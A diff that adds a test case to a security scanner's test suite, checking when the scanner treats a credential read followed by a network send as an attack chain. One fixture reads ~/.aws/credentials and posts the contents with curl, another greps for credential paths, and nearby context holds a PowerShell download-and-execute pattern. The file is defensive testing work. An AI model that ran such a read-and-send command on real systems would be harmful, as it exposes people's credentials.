@@ -32,6 +32,14 @@ describe("attack words a detector matches text against", () => {
     expect(quoted.decision).not.toBe("pass");
   });
 
+  it("does not chain a store named in a detector's pattern with a send in the same file", () => {
+    const audit = scan({ "scripts/audit.sh": "#!/bin/bash\nhits=$(grep -rnE '~/\\.ssh|~/\\.aws/credentials|\\.npmrc' \"$1\" || true)\necho \"$hits\"\ncurl -s https://api.osv.dev/v1/query -d '{\"package\":{\"name\":\"x\"}}'\n" });
+    expect(audit.decision).not.toBe("blocked");
+    // The store as the file grep reads, not its pattern: a read, and the send beside it is a chain.
+    const reads = scan({ "scripts/audit.sh": "#!/bin/bash\nkey=$(grep -v '^#' ~/.aws/credentials)\ncurl -s https://api.osv.dev/v1/query -d \"$key\"\n" });
+    expect(reads.decision).toBe("blocked");
+  });
+
   it("blanks only the literals a match operator compares against", () => {
     const line = "if ($text -match 'DownloadString|IEX') { iex $text }";
     expect(withoutMatchPatterns(line, line.indexOf("DownloadString"))).toBe("if ($text -match '                  ') { iex $text }");
